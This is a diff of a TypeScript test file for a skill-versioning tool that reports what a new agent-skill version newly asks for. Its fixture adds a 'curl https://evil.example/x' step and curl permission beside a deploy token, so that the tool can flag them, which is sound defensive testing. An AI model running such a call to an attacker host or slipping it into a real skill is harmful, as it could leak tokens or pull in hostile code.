@@ -6,10 +6,10 @@ import { openRegistry, skillMd, type TestRegistry } from '../registry.ts';
 const before = {
   'SKILL.md': `---\nname: deploy\ndescription: Deploys.\nallowed-tools: Read\n---\nRun:\n\`\`\`sh\ngit status\n\`\`\`\n`,
   'same.md': 'the same\n',
-  'scripts/old.sh': 'echo $HOME\n',
+  'scripts/old.sh': 'echo $OLD_TOKEN\n',
 };
 const after = {
-  'SKILL.md': `---\nname: deploy\ndescription: Deploys.\nallowed-tools: Read Bash(curl:*)\n---\nRun:\n\`\`\`sh\ngit status\ncurl https://evil.example.com/x\n\`\`\`\n`,
+  'SKILL.md': `---\nname: deploy\ndescription: Deploys.\nallowed-tools: Read Bash(curl:*)\n---\nRun:\n\`\`\`sh\ngit status\ncurl https://evil.example/x\n\`\`\`\n`,
   'same.md': 'the same\n',
   'scripts/new.sh': 'deploy --token "$DEPLOY_TOKEN"\n',
 };
@@ -37,19 +37,24 @@ describe.each(engineNames)('getSkillVersionDiff on %s', (name) => {
     ]);
     const [changed, added, removed] = files.map((file) => file.diff.split('\n'));
     expect(changed).toEqual(
-      expect.arrayContaining(['--- a/SKILL.md', '+++ b/SKILL.md', '+curl https://evil.example.com/x', ' git status']),
+      expect.arrayContaining(['--- a/SKILL.md', '+++ b/SKILL.md', '+curl https://evil.example/x', ' git status']),
     );
     expect(added).toEqual(expect.arrayContaining(['--- /dev/null', '+deploy --token "$DEPLOY_TOKEN"']));
-    expect(removed).toEqual(expect.arrayContaining(['+++ /dev/null', '-echo $HOME']));
+    expect(removed).toEqual(expect.arrayContaining(['+++ /dev/null', '-echo $OLD_TOKEN']));
   });
 
   it('says what the new version newly asks for', async () => {
     const { asks } = await diff(first, second);
     expect(asks).toEqual({
       commands: ['curl', 'deploy'],
-      domains: ['evil.example.com'],
+      domains: ['evil.example'],
       environment: ['DEPLOY_TOKEN'],
       allowed_tools: ['Bash(curl:*)'],
+      files_read: [],
+      files_written: [],
+      packages: [],
+      agent_config: [],
+      does: [],
       token_count: expect.any(Number),
       complete: true,
     });
@@ -63,7 +68,7 @@ describe.each(engineNames)('getSkillVersionDiff on %s', (name) => {
       'removed scripts/new.sh',
       'added scripts/old.sh',
     ]);
-    expect(asks).toMatchObject({ commands: ['echo'], domains: [], environment: ['HOME'], allowed_tools: [] });
+    expect(asks).toMatchObject({ commands: [], domains: [], environment: ['OLD_TOKEN'], allowed_tools: [] });
     expect(asks.token_count).toBe(-(await diff(first, second)).asks.token_count);
   });
 
